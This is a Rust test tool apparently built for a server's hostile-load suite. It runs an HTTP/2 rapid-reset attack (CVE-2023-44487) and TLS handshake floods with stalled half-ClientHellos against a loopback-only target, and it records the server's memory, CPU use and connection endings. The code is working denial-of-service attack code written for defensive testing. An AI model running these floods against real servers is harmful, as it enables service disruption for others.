//! Hostile HTTP/2 and TLS clients for `make hostile-load` (tests/hostile/run.sh): loopback only,
//! every loop bounded by SECONDS. Each run prints one JSON object — a phase of the report, with
//! its start and end (epoch seconds), the server's RSS sampled every 0.5 s and the CPU time it
//! used — which run.sh merges with the answers its prober got meanwhile.
//!
//! * `rapid-reset`: CONNECTIONS HTTP/2 connections, each opening review streams and resetting
//!   them at once (RST_STREAM, the CVE-2023-44487 pattern) in a tight loop; a connection the
//!   server closes is replaced by a new one until the time is up. Reports how many streams each
//!   connection got through and how the server ended it (GOAWAY and its reason).
//! * `tls-flood`: CONNECTIONS concurrent clients, each in a loop: TCP connect and drop; send a
//!   ClientHello, wait for the server's first flight (the server has done its key exchange and
//!   signature by then) and drop; complete the handshake and drop. Alongside, CONNECTIONS more
//!   send half a ClientHello and wait for the server to give up on them.
//!
//! Usage: hostile_client rapid-reset|tls-flood ADDR CA_FILE SERVER_PID SECONDS CONNECTIONS

use std::collections::BTreeMap;
use std::io::Write as _;
use std::net::SocketAddr;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant, SystemTime, UNIX_EPOCH};

use anyhow::{bail, Context as _};
use rustls::pki_types::pem::PemObject as _;
use rustls::pki_types::{CertificateDer, ServerName};
use serde_json::{json, Value};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio_rustls::TlsConnector;

/// Longest the tool waits for the server to close a stalled handshake after the phase ends
/// (the server's handshake timeout is 10 s).
const STALL_GRACE: Duration = Duration::from_secs(15);
/// Linux reports CPU times in /proc in units of USER_HZ, which is 100 on every architecture.
const USER_HZ: f64 = 100.0;

struct Args {
    mode: String,
    addr: SocketAddr,
    ca_file: String,
    pid: u32,
    seconds: u64,
    connections: usize,
}

fn args() -> anyhow::Result<Args> {
    let argv: Vec<String> = std::env::args().skip(1).collect();
    let [mode, addr, ca_file, pid, seconds, connections] = argv.as_slice() else {
        bail!("usage: hostile_client rapid-reset|tls-flood ADDR CA_FILE SERVER_PID SECONDS CONNECTIONS");
    };
    let addr: SocketAddr = addr.parse().context("ADDR")?;
    if !addr.ip().is_loopback() {
        bail!("hostile_client attacks loopback addresses only, not {addr}");
    }
    Ok(Args {
        mode: mode.clone(),
        addr,
        ca_file: ca_file.clone(),
        pid: pid.parse().context("SERVER_PID")?,
        seconds: seconds.parse().context("SECONDS")?,
        connections: connections.parse().context("CONNECTIONS")?,
    })
}

fn tls_connector(ca_file: &str, alpn: &[&[u8]]) -> anyhow::Result<TlsConnector> {
    let mut roots = rustls::RootCertStore::empty();
    for cert in CertificateDer::pem_file_iter(ca_file).context("reading CA_FILE")? {
        roots.add(cert?)?;
    }
    let mut config = rustls::ClientConfig::builder_with_provider(Arc::new(
        rustls::crypto::ring::default_provider(),
    ))
    .with_safe_default_protocol_versions()?
    .with_root_certificates(roots)
    .with_no_client_auth();
    config.alpn_protocols = alpn.iter().map(|p| p.to_vec()).collect();
    Ok(TlsConnector::from(Arc::new(config)))
}

fn epoch_seconds() -> f64 {
    SystemTime::now()
        .duration_since(UNIX_EPOCH)
        .map_or(0.0, |d| d.as_secs_f64())
}

fn rss_kib(pid: u32) -> Option<u64> {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).ok()?;
    let line = status.lines().find(|l| l.starts_with("VmRSS:"))?;
    line.split_whitespace().nth(1)?.parse().ok()
}

/// utime + stime of the process, in seconds.
fn cpu_seconds(pid: u32) -> Option<f64> {
    let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).ok()?;
    // Fields after the command name (which may contain spaces) start at field 3.
    let rest = &stat[stat.rfind(')')? + 2..];
    let fields: Vec<&str> = rest.split_whitespace().collect();
    let utime: f64 = fields.get(11)?.parse().ok()?;
    let stime: f64 = fields.get(12)?.parse().ok()?;
    Some((utime + stime) / USER_HZ)
}

/// Samples the server's RSS every 0.5 s until `until`.
async fn sample_rss(pid: u32, until: Instant) -> Vec<u64> {
    let mut samples = Vec::new();
    while Instant::now() < until {
        if let Some(kib) = rss_kib(pid) {
            samples.push(kib);
        }
        tokio::time::sleep(Duration::from_millis(500)).await;
    }
    samples
}

#[derive(Default)]
struct Counter(Mutex<BTreeMap<String, u64>>);

impl Counter {
    fn add(&self, key: impl Into<String>, n: u64) {
        if let Ok(mut map) = self.0.lock() {
            *map.entry(key.into()).or_default() += n;
        }
    }
    fn to_json(&self) -> Value {
        self.0.lock().map(|map| json!(*map)).unwrap_or(Value::Null)
    }
}

#[derive(Default)]
struct RapidResetStats {
    connections: AtomicU64,
    streams: AtomicU64,
    most_streams_on_a_connection: AtomicU64,
    /// How each connection ended: "GOAWAY ENHANCE_YOUR_CALM", "client stopped", an error.
    endings: Counter,
}

/// One attacking connection: streams opened and reset at once until the server ends the
/// connection or the time is up. Returns how the connection ended.
async fn rapid_reset_connection(
    addr: SocketAddr,
    connector: &TlsConnector,
    until: Instant,
    stats: &RapidResetStats,
) -> anyhow::Result<String> {
    let tcp = TcpStream::connect(addr).await?;
    tcp.set_nodelay(true)?;
    let tls = connector
        .connect(ServerName::try_from("localhost")?, tcp)
        .await?;
    if tls.get_ref().1.alpn_protocol() != Some(b"h2") {
        bail!("the server did not negotiate HTTP/2");
    }
    let (sender, connection) = h2::client::handshake(tls).await?;
    let driver = tokio::spawn(connection);
    stats.connections.fetch_add(1, Ordering::Relaxed);
    let request = http::Request::builder()
        .method("POST")
        .uri("https://localhost/validate/fail?timeout=10s")
        .header("content-type", "application/json")
        .body(())?;
    let mut streams = 0u64;
    // The block owns the sender: dropping it at the end lets the connection task finish.
    let ending = {
        let mut sender = sender;
        loop {
            if Instant::now() >= until {
                break "client stopped".to_string();
            }
            sender = match sender.ready().await {
                Ok(ready) => ready,
                Err(error) => break describe(&error),
            };
            match sender.send_request(request.clone(), false) {
                Ok((response, mut body)) => {
                    // HEADERS without END_STREAM, then RST_STREAM(CANCEL): h2 writes both together.
                    body.send_reset(h2::Reason::CANCEL);
                    drop(response);
                    streams += 1;
                }
                Err(error) => break describe(&error),
            }
            if streams.is_multiple_of(32) {
                // Let the connection task write what is queued and read the server's frames.
                tokio::task::yield_now().await;
            }
        }
    };
    // The connection task says how the server ended the connection (a GOAWAY with its reason).
    let ending = match tokio::time::timeout(Duration::from_secs(2), driver).await {
        Ok(Ok(Err(error))) => describe(&error),
        _ => ending,
    };
    stats.streams.fetch_add(streams, Ordering::Relaxed);
    stats
        .most_streams_on_a_connection
        .fetch_max(streams, Ordering::Relaxed);
    Ok(ending)
}

fn describe(error: &h2::Error) -> String {
    match error.reason() {
        Some(reason) if error.is_go_away() && error.is_remote() => format!("GOAWAY {reason:?}"),
        Some(reason) if error.is_reset() => format!("RST_STREAM {reason:?}"),
        _ if error.is_io() => "connection closed".to_string(),
        _ => error.to_string(),
    }
}

async fn rapid_reset(args: &Args) -> anyhow::Result<Value> {
    let connector = tls_connector(&args.ca_file, &[b"h2"])?;
    let until = Instant::now() + Duration::from_secs(args.seconds);
    let stats = Arc::new(RapidResetStats::default());
    let mut workers = Vec::new();
    for _ in 0..args.connections {
        let (connector, stats, addr) = (connector.clone(), stats.clone(), args.addr);
        workers.push(tokio::spawn(async move {
            while Instant::now() < until {
                let ending = rapid_reset_connection(addr, &connector, until, &stats)
                    .await
                    .unwrap_or_else(|error| format!("connect: {error}"));
                stats.endings.add(ending, 1);
            }
        }));
    }
    let rss = tokio::spawn(sample_rss(args.pid, until));
    for worker in workers {
        worker.await?;
    }
    let rss = rss.await?;
    Ok(json!({
        "phase": format!("HTTP/2 rapid reset, {} connections at a time", args.connections),
        "rss_kib": rss,
        "connections_opened": stats.connections.load(Ordering::Relaxed),
        "streams_opened_and_reset": stats.streams.load(Ordering::Relaxed),
        "most_streams_on_a_connection": stats.most_streams_on_a_connection.load(Ordering::Relaxed),
        "connection_endings": stats.endings.to_json(),
    }))
}

/// The first bytes a TLS client sends (its ClientHello), from rustls.
fn client_hello() -> anyhow::Result<Vec<u8>> {
    let config = rustls::ClientConfig::builder_with_provider(Arc::new(
        rustls::crypto::ring::default_provider(),
    ))
    .with_safe_default_protocol_versions()?
    .with_root_certificates(rustls::RootCertStore::empty())
    .with_no_client_auth();
    let mut connection =
        rustls::ClientConnection::new(Arc::new(config), ServerName::try_from("localhost")?)?;
    let mut hello = Vec::new();
    connection.write_tls(&mut hello)?;
    Ok(hello)
}

/// Sends a ClientHello and drops the connection once the server's first flight arrives.
async fn hello_then_drop(addr: SocketAddr, hello: &[u8]) -> anyhow::Result<()> {
    let mut tcp = TcpStream::connect(addr).await?;
    tcp.write_all(hello).await?;
    let mut buf = [0u8; 4096];
    let read = tokio::time::timeout(Duration::from_secs(5), tcp.read(&mut buf)).await??;
    if read == 0 {
        bail!("closed before the server's first flight");
    }
    Ok(())
}

async fn full_handshake_then_drop(
    addr: SocketAddr,
    connector: &TlsConnector,
) -> anyhow::Result<()> {
    let tcp = TcpStream::connect(addr).await?;
    connector
        .connect(ServerName::try_from("localhost")?, tcp)
        .await?;
    Ok(())
}

/// Sends half a ClientHello and waits (bounded) for the server to close the connection;
/// returns how long that took.
async fn stall_handshake(
    addr: SocketAddr,
    hello: &[u8],
    limit: Instant,
) -> anyhow::Result<Duration> {
    let started = Instant::now();
    let mut tcp = TcpStream::connect(addr).await?;
    tcp.write_all(hello.get(..hello.len() / 2).unwrap_or(hello))
        .await?;
    let mut buf = [0u8; 256];
    loop {
        match tokio::time::timeout_at(limit.into(), tcp.read(&mut buf)).await {
            Err(_) => bail!("still open"),
            Ok(Ok(0)) | Ok(Err(_)) => return Ok(started.elapsed()),
            Ok(Ok(_)) => {}
        }
    }
}

async fn tls_flood(args: &Args) -> anyhow::Result<Value> {
    let connector = tls_connector(&args.ca_file, &[b"h2", b"http/1.1"])?;
    let hello: Arc<[u8]> = client_hello()?.into();
    let until = Instant::now() + Duration::from_secs(args.seconds);
    let outcomes = Arc::new(Counter::default());
    let mut workers = Vec::new();
    for worker in 0..args.connections {
        let (connector, hello, outcomes, addr) = (
            connector.clone(),
            hello.clone(),
            outcomes.clone(),
            args.addr,
        );
        workers.push(tokio::spawn(async move {
            let mut round = worker;
            while Instant::now() < until {
                let (kind, result) = match round % 3 {
                    0 => (
                        "tcp connect, drop",
                        TcpStream::connect(addr).await.map(drop).map_err(Into::into),
                    ),
                    1 => (
                        "ClientHello, drop after the server's flight",
                        hello_then_drop(addr, &hello).await,
                    ),
                    _ => (
                        "full handshake, drop",
                        full_handshake_then_drop(addr, &connector).await,
                    ),
                };
                match result {
                    Ok(()) => outcomes.add(format!("{kind}: ok"), 1),
                    Err(error) => outcomes.add(format!("{kind}: {error}"), 1),
                }
                round += 1;
            }
        }));
    }
    let limit = until + STALL_GRACE;
    let stalls: Vec<_> = (0..args.connections)
        .map(|_| {
            let (hello, addr) = (hello.clone(), args.addr);
            tokio::spawn(async move { stall_handshake(addr, &hello, limit).await })
        })
        .collect();
    let rss = tokio::spawn(sample_rss(args.pid, until));
    for worker in workers {
        worker.await?;
    }
    let rss = rss.await?;
    let mut closed_after = Vec::new();
    let stall_outcomes = Counter::default();
    for stall in stalls {
        match stall.await? {
            Ok(after) => closed_after.push(after.as_secs_f64()),
            Err(error) => stall_outcomes.add(error.to_string(), 1),
        }
    }
    closed_after.sort_by(f64::total_cmp);
    Ok(json!({
        "phase": format!("TLS handshake flood, {} clients in a loop", args.connections),
        "rss_kib": rss,
        "attempts": outcomes.to_json(),
        "stalled_handshakes": args.connections,
        "stalled_handshakes_closed_by_server": closed_after.len(),
        "stalled_handshakes_not_closed": stall_outcomes.to_json(),
        "stalled_handshake_closed_after_seconds_min": closed_after.first(),
        "stalled_handshake_closed_after_seconds_max": closed_after.last(),
    }))
}

fn main() -> anyhow::Result<()> {
    let args = args()?;
    let runtime = tokio::runtime::Builder::new_multi_thread()
        .worker_threads(2)
        .enable_all()
        .build()?;
    let start = epoch_seconds();
    let cpu_before = cpu_seconds(args.pid);
    let mut phase = runtime.block_on(async {
        match args.mode.as_str() {
            "rapid-reset" => rapid_reset(&args).await,
            "tls-flood" => tls_flood(&args).await,
            other => bail!("unknown mode {other}: rapid-reset or tls-flood"),
        }
    })?;
    let end = epoch_seconds();
    if let (Some(before), Some(after)) = (cpu_before, cpu_seconds(args.pid)) {
        phase["server_cpu_seconds"] = json!(((after - before) * 100.0).round() / 100.0);
        phase["server_cpu_cores"] =
            json!(((after - before) / (end - start) * 100.0).round() / 100.0);
    }
    phase["start"] = json!(start);
    phase["end"] = json!(end);
    let samples: Vec<u64> = phase["rss_kib"]
        .as_array()
        .map(|a| a.iter().filter_map(Value::as_u64).collect())
        .unwrap_or_default();
    phase["rss_kib_max"] = json!(samples.iter().max());
    phase["rss_kib_last"] = json!(samples.last());
    if let Some(map) = phase.as_object_mut() {
        map.remove("rss_kib");
    }
    let mut out = std::io::stdout().lock();
    serde_json::to_writer(&mut out, &phase)?;
    writeln!(out)?;
    Ok(())
}
